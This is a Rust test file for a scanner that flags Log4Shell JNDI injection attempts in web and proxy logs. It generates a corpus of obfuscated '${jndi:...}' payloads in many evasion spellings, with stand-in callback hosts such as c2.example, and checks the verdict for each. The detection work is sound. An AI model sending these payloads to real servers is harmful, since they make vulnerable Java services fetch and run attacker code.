//! Spellings, fields, verdicts and limits of the attempt scan, and our own corpus of lines.

use std::fmt::Write as _;

use relight_model::OrgId;
use testkit::Rng;

use super::*;
use crate::parsers::{Feed, named};

/// Spells each byte, in `percent` of 100 cases, in one of the ways that [`decode`] undoes. What
/// follows `&#` stays as it is: the semicolon of a numeric reference is optional, so `&#3%36;` is
/// read as `&#3` and `6;`, as browsers do.
pub(crate) fn spell(text: &[u8], rng: &mut Rng, percent: usize) -> Vec<u8> {
    let mut out = Vec::new();
    let mut kept_until = 0;
    for (index, &byte) in text.iter().enumerate() {
        if text[index..].starts_with(b"&#") {
            let length = text[index..].iter().position(|byte| *byte == b';').unwrap_or(0);
            kept_until = index + length;
        }
        // The ampersand itself may be spelled: then the reference appears a round later.
        let kept = index <= kept_until && kept_until > 0 && byte != b'&';
        if !kept && (rng.chance(percent) || byte == b'{' && rng.chance(30)) {
            out.extend(spelling(byte, rng).into_bytes());
        } else {
            out.push(byte);
        }
    }
    out
}

/// As a web server writes it: Apache's way or nginx's.
pub(crate) fn logged(text: &str, rng: &mut Rng) -> String {
    if rng.chance(50) {
        text.replace('\\', "\\\\").replace('"', "\\\"")
    } else {
        text.replace('\\', "\\x5C").replace('"', "\\x22")
    }
}

/// One of the ways to write a byte.
pub(crate) fn spelling(byte: u8, rng: &mut Rng) -> String {
    let names: Vec<&str> = match byte {
        b'$' => vec!["dollar", "Dollar"],
        b'{' => vec!["lbrace", "lcub", "LCUB"],
        b'}' => vec!["rbrace", "rcub"],
        b':' => vec!["colon"],
        b'/' => vec!["sol"],
        b'%' => vec!["percnt"],
        b'\\' => vec!["bsol"],
        b'&' => vec!["amp", "AMP"],
        b'#' => vec!["num"],
        _ => Vec::new(),
    };
    match rng.below(if names.is_empty() { 10 } else { 12 }) {
        0 => format!("%{byte:02x}"),
        1 => format!("%{byte:02X}"),
        2 => format!("%u{byte:04x}"),
        3 => format!("%U{byte:04X}"),
        4 => format!("\\u{byte:04x}"),
        5 => format!("\\uuu{byte:04X}"),
        6 => format!("\\x{byte:02x}"),
        7 => format!("\\{byte:03o}"),
        8 => format!("&#{}{byte};", "0".repeat(rng.below(4))),
        9 => format!("&#x{}{byte:x};", "0".repeat(rng.below(4))),
        _ => format!("&{};", rng.pick(&names)),
    }
}

fn event(line: &str) -> Event<'_> {
    static FEED: LazyLock<Feed> = LazyLock::new(Feed::default);
    named("combined").unwrap().parse(&FEED, line).unwrap()
}

fn line(target: &str, user: &str, referer: &str, agent: &str) -> String {
    format!(
        "192.0.2.1 - {user} [10/Dec/2021:02:05:58 +0000] \"GET {target} HTTP/1.1\" 404 9 \
         \"{referer}\" \"{agent}\""
    )
}

fn seen(line: &str) -> Option<(&'static str, &'static str, String)> {
    attempt(&event(line)).map(|found| (found.verdict.as_str(), found.field, found.key))
}

#[test]
fn every_field_is_looked_at_alone() {
    let payload = "${jndi:ldap://x/a}";
    let key = "ldap://x/a".to_owned();
    for (line, field) in [
        (line(&format!("/{payload}"), "-", "-", "-"), "path"),
        (line(&format!("/?q={payload}"), "-", "-", "-"), "query"),
        (line("/", payload, "-", "-"), "user"),
        (line("/", "-", payload, "-"), "referer"),
        (line("/", "-", "-", payload), "user-agent"),
        // An unclosed opening in one field must not hide the payload of another.
        (line("/${x", "-", "-", payload), "user-agent"),
        (line(&format!("/?a=${{x&q={payload}"), "-", "-", "-"), "value"),
    ] {
        assert_eq!(seen(&line), Some(("effective/remote", field, key.clone())), "{line}");
    }
    // A question mark inside the payload: only the target as a whole holds all of it.
    let found = seen(&line("/${jndi:ldap://x/a?b}", "-", "-", "-"));
    assert_eq!(found, Some(("effective/remote", "target", "ldap://x/a?b".to_owned())));
}

/// Trap: an opening that is never closed in one captured header hides the payload in the next one
/// from who looks at all of them as one text, and not from an application that logs that header.
#[test]
fn captured_headers_are_looked_at_one_by_one() {
    let haproxy = |captured: &str| {
        let line = format!(
            "<134>Dec 10 02:05:58 lb haproxy[312]: 192.0.2.1:40123 [10/Dec/2021:02:05:58.123] www~ \
             app/srv1 0/0/1/12/13 200 5120 - - ---- 2/2/0/0/0 0/0 {captured} \"GET / HTTP/1.1\""
        );
        decode_line(&line).1.map(|it| (it.verdict.as_str(), it.field))
    };
    let web = |more: &str| {
        let line = line("/", "-", "-", "-");
        decode_line(&format!("{line} {more}")).1.map(|it| (it.verdict.as_str(), it.field))
    };
    let found = Some(("effective/remote", "headers"));
    for captured in [
        "{$#7Bx|$#7Bjndi:ldap://x/a#7D}",
        "{a|$#7Bx} {$#7Bjndi:ldap://x/a#7D|b}",
        "{$#7Bjndi:ldap://x/a#7D|$#7Bx}",
    ] {
        assert_eq!(haproxy(captured), found, "{captured}");
    }
    for more in [
        "\"${x\" \"${jndi:ldap://x/a}\"",
        "\"${x\" \"say \\\" ${jndi:ldap://x/a}\"",
        "\"${x \\\\\" \"${jndi:ldap://x/a}\"",
    ] {
        assert_eq!(web(more), found, "{more}");
    }
    assert_eq!(haproxy("{$#7Bx|jndi:ldap://x/a}"), None);
}

#[test]
fn hostile_lines_cost_a_bounded_amount_of_work() {
    // Just below the limit in each round, and one round more for each escape.
    let nested = format!("{}a{}", "${".repeat(1_100), "}".repeat(1_100));
    let text = format!("%25252541{nested}");
    let mut spent = 0;
    let found = field_attempt("query", &text, Escape::Apache, &mut spent);
    assert_eq!(found.map(|found| found.verdict.as_str()), Some("attempt/over-limit"));
    assert!(spent < crate::lookup::EVAL_WORK_MAX + 100_000, "{spent}");
    // A payload behind a value that used up the work is seen all the same.
    let values = format!("/?a={nested}&b={nested}&c=${{jndi:ldap://x/a}}");
    let verdict = seen(&line(&values, "-", "-", "-")).map(|(verdict, _, _)| verdict);
    assert_eq!(verdict, Some("effective/remote"));
    // One in a value as long as the junk is at least not called benign.
    let values = format!("/?a={nested}&b={nested}&c={nested}${{jndi:ldap://x/a}}");
    let verdict = seen(&line(&values, "-", "-", "-")).map(|(verdict, _, _)| verdict);
    assert!(verdict.is_some_and(|verdict| verdict != "benign"));
}

#[test]
fn nothing_that_arrives_makes_it_panic() {
    const PIECES: [&[u8]; 22] = [
        b"192.0.2.1 - - ",
        b"[10/Dec/2021:02:05:58 +0000] ",
        b"\"GET /",
        b" HTTP/1.1\" ",
        b"404 ",
        b"9 ",
        b"\"-\" ",
        b"\"",
        b"\\",
        b"%",
        b"&#",
        b"${",
        b"}",
        b":-",
        b"jndi:",
        b"\xff",
        b"\xc3",
        b"lower:",
        b"date:'",
        b"%u00",
        b"?",
        b"\n",
    ];
    let mut rng = Rng::new(77);
    let mut window = crate::Window::new(0);
    let (feed, parser) = (Feed::default(), named("combined").unwrap());
    for _ in 0..5_000 {
        let bytes: Vec<u8> =
            (0..rng.below(30)).flat_map(|_| rng.pick(&PIECES).iter().copied()).collect();
        for line in crate::line::Lines::new(&bytes) {
            match parser.parse(&feed, &line) {
                Ok(event) => window.observe(&event),
                Err(_) => window.observe_refused(OrgId(0), &line),
            }
        }
        let text = String::from_utf8_lossy(&bytes);
        let event = Event { path: &text, query: &text, user_agent: &text, ..event(GOOD) };
        window.observe(&event);
    }
    assert!(window.stats().events >= 5_000);
}

const GOOD: &str =
    "192.0.2.1 - - [10/Dec/2021:02:05:58 +0000] \"GET / HTTP/1.1\" 200 9 \"-\" \"-\"";

#[test]
fn lines_that_no_parser_takes() {
    let line = "kernel: user ${jndi:ldap://x/a} logged in";
    let found = attempt_in_line(line).unwrap();
    assert_eq!((found.field, found.key.as_str()), ("line", "ldap://x/a"));
    assert_eq!(attempt_in_line("kernel: ${HOME} and $%7b"), None);
}

#[test]
fn steps_show_how_it_was_written() {
    let line = line("/?q=%2524%257bjndi:ldap://Host.example:1389/a%257d", "-", "-", "-");
    let found = attempt(&event(&line)).unwrap();
    assert_eq!(found.steps.len(), 3);
    assert!(found.steps[2].contains("${jndi:ldap://Host.example:1389/a}"));
    let callback = found.callback().unwrap();
    assert_eq!((callback.host.as_str(), callback.port), ("host.example", Some(1389)));
    assert_eq!((callback.scheme.as_str(), callback.path.as_str()), ("ldap", "a"));
}

#[test]
fn callbacks_of_odd_keys() {
    let host = |key: &str| Callback::parse(key).map(|callback| (callback.host, callback.port));
    assert_eq!(
        host("ldap:/127.0.0.1#ev.example:1099/a"),
        Some(("127.0.0.1#ev.example".into(), Some(1099)))
    );
    assert_eq!(host("ldap://[2001:db8::1]:389/x"), Some(("[2001:db8::1]".into(), Some(389))));
    assert_eq!(host("ldap://[2001:db8::1]/x"), Some(("[2001:db8::1]".into(), None)));
    assert_eq!(host("ldap://h:99999/x"), Some(("h:99999".into(), None)));
    assert_eq!(host("java:comp/env/x"), None);
    assert_eq!(host("name"), None);
}

#[test]
fn basic_credentials_are_opened() {
    // "${jndi:ldap://x/a}:pw"
    let agent = "Basic JHtqbmRpOmxkYXA6Ly94L2F9OnB3";
    let found = seen(&line("/", "-", "-", agent)).unwrap();
    assert_eq!(found.0, "effective/remote");
    assert_eq!(seen(&line("/", "-", "-", "Basic not base64!")), None);
    assert_eq!(seen(&line("/", "-", "-", "basic dXNlcjpwdw==")), None);
}

#[test]
fn six_rounds_and_no_more() {
    let mut text = "${jndi:ldap://x/a}".to_owned();
    for round in 0..=DECODE_ROUNDS_MAX {
        let found = seen(&line(&format!("/?q={text}"), "-", "-", "-"));
        assert!(found.is_some(), "{round}");
        text = text.replace('%', "%25").replace('$', "%24");
    }
    assert_eq!(seen(&line(&format!("/?q={text}"), "-", "-", "-")), None);
}

#[test]
fn one_round_undoes_each_escape_once() {
    let once = |text: &str| String::from_utf8_lossy(&decode(text.as_bytes())).into_owned();
    for (text, decoded) in [
        ("%24%7B", "${"),
        ("%2524", "%24"),
        ("%u0024\\u007b\\uu007B\\x7b\\173", "${{{{"),
        ("&#36;&#0036&#x24;&#X024&dollar;&LBRACE;", "$$$$${"),
        ("&amp;#36;", "&#36;"),
        (
            "%zz %2 % \\q \\8 \\400 & &# &#; &#xg; &nope; &amp",
            "%zz %2 % \\q \\8 \\400 & &# &#; &#xg; &nope; &amp",
        ),
        ("\\ud83d", "\u{fffd}"),
        ("&#99999999999;", "&#99999999999;"),
        ("", ""),
    ] {
        assert_eq!(once(text), decoded, "{text}");
    }
    assert_eq!(undo_log_escape(r#"\"\\\x41\xzz\u0024\n\"#), b"\"\\A\\xzz\\u0024\n\\");
}

#[test]
fn base64_of_both_alphabets() {
    assert_eq!(base64(b"aGk="), Some(b"hi".to_vec()));
    assert_eq!(base64(b"aGk"), Some(b"hi".to_vec()));
    assert_eq!(base64(b"-_-_"), base64(b"+/+/"));
    assert_eq!(base64(b"a"), None);
    assert_eq!(base64(b"a b="), None);
}

#[test]
fn steps_are_cut_at_a_character() {
    let text = "\u{e9}".repeat(STEP_BYTES_MAX);
    assert_eq!(shortened(&text).len(), STEP_BYTES_MAX);
    assert!(shortened(&("a".to_owned() + &text)).len() < STEP_BYTES_MAX);
}

/// Families of payloads with the verdict that the rules of the evaluator give them. `@` stands
/// for the callback.
const FAMILIES: [(&str, &str); 24] = [
    ("effective/remote", "${jndi:@}"),
    ("effective/remote", "${JNDI:@}"),
    ("effective/remote", "${${lower:J}ndi:@}"),
    ("effective/remote", "${${::-j}${::-n}${::-d}${::-i}:@}"),
    ("effective/remote", "${${env:NOPE:-j}ndi${env:NOPE:-:}@}"),
    ("effective/remote", "${${date:'j'}${date:'ndi'}:@}"),
    ("effective/remote", "${${upper:j}${lower:N}d${sys:x:-i}:@}"),
    ("effective/remote", "${j${${:-l}${:-o}${:-w}${:-e}${:-r}:N}di:@}"),
    ("effective/remote", "${}${jndi:@}"),
    ("effective/remote", "before ${jndi:@} after ${b"),
    ("effective/remote", "$${jndi:@} ${"),
    ("effective/remote", "${x:-${jndi:@}}"),
    ("effective/local", "${jndi:java:comp/env/jdbc}"),
    ("effective/local", "${jndi:mail/Session}"),
    ("attempt/truncated", "${jndi:@"),
    ("attempt/truncated", "${b ${jndi:@}"),
    ("attempt/escaped", "$${jndi:@}"),
    ("attempt/spaced", "${jndi :@}"),
    ("benign", "${jndi:-@}"),
    ("benign", "jndi:@"),
    ("benign", "{jndi:@}"),
    ("benign", "${env:HOME}/${sys:user.name}"),
    ("benign", "${ctx:jndi:@}"),
    ("benign", "#{jndi:@}"),
];

const CALLBACKS: [&str; 4] = [
    "ldap://192.0.2.7:1389/a",
    "rmi://c2.example/Basic",
    "dns:/x.example",
    "ldaps://[2001:db8::7]:636/o=x",
];

/// The corpus, made anew: each family with several callbacks, spellings and places.
fn corpus() -> String {
    let mut rng = Rng::new(2021);
    let mut out = String::new();
    for (verdict, family) in FAMILIES {
        // Half a spelling of the others changes what they are: `%24${jndi:…}` is no escape.
        let may_be_spelled = verdict == "effective/remote" || family == "${jndi:@";
        for number in 0..if may_be_spelled { 24 } else { 4 } {
            let payload = family.replace('@', CALLBACKS[number % CALLBACKS.len()]);
            let mut spelled = payload.into_bytes();
            for _ in 0..if may_be_spelled { number % 4 } else { 0 } {
                spelled = spell(&spelled, &mut rng, 25);
            }
            let spelled = String::from_utf8_lossy(&spelled).into_owned();
            let logged = logged(&spelled, &mut rng);
            let line = match rng.below(4) {
                0 => line("/", "-", "-", &format!("Mozilla/5.0 {logged}")),
                1 => line("/index.html", "-", &logged, "Mozilla/5.0"),
                2 => line("/login", &logged, "-", "curl/7.74.0"),
                _ => line(&format!("/search?lang=fr&q={logged}"), "-", "-", "Mozilla/5.0"),
            };
            let _ = writeln!(out, "{verdict}\t{line}");
        }
    }
    out
}

/// Goal: the committed corpus keeps its verdicts. Method: the file is what the generator above
/// writes (so that it cannot be edited to please), and each line is parsed and scanned.
#[test]
fn the_corpus_keeps_its_verdicts() {
    expect_test::expect_file!["../../corpus/jndi.tsv"].assert_eq(&corpus());
    let corpus = corpus();
    assert!(corpus.lines().count() > 300);
    for row in corpus.lines() {
        let (verdict, line) = row.split_once('\t').unwrap();
        let found = attempt(&event(line)).map_or("benign", |found| found.verdict.as_str());
        assert_eq!(found, verdict, "{line}");
    }
}

#[test]
fn the_escaping_of_each_log_is_undone_once() {
    for (text, escape, plain) in [
        ("a\\\"b\\\\c\\x41", Escape::Apache, "a\"b\\cA"),
        ("a\\\"b\\\\c\\/\\u0041\\ud83d\\ude00\\x42\\n", Escape::Json, "a\"b\\c/A\u{1f600}B\n"),
        ("\\ud83d\\u0041", Escape::Json, "\u{fffd}A"),
        ("%2541%zz%", Escape::Percent, "%41%zz%"),
        ("#22#7B#zz#", Escape::Hash, "\"{#zz#"),
        ("%41\\x41", Escape::None, "%41\\x41"),
    ] {
        assert_eq!(String::from_utf8(undo(text, escape)).unwrap(), plain, "{text} {escape:?}");
    }
}

/// HAProxy writes a brace as `#7B`, which no decoder of an application undoes.
#[test]
fn a_brace_that_only_the_log_escaped_is_seen() {
    let headers = "$#7Bjndi:ldap://x/a#7D";
    let event =
        Event { headers, escape: Escape::Hash, ..Event::bare(OrgId(0), 0, [192, 0, 2, 1].into()) };
    assert_eq!(attempt(&event).map(|found| found.key), Some("ldap://x/a".to_owned()));
    assert_eq!(attempt(&Event { escape: Escape::None, ..event }), None);
}

/// A line of no known product is read as it stands, and as a web server would have written it.
#[test]
fn lines_of_nobody() {
    let verdict = |line| decode_line(line).1.map_or("benign", |found| found.verdict.as_str());
    assert_eq!(decode_line("hello").0, None);
    assert_eq!(verdict("hello"), "benign");
    assert_eq!(verdict("x ${jndi:\\-ldap:-x} y"), "effective/local");
    assert_eq!(verdict("x \\x24\\x7bjndi:ldap://x/a}"), "effective/remote");
    assert_eq!(verdict("x $\\\"{jndi:ldap://x/a}"), "benign");
}
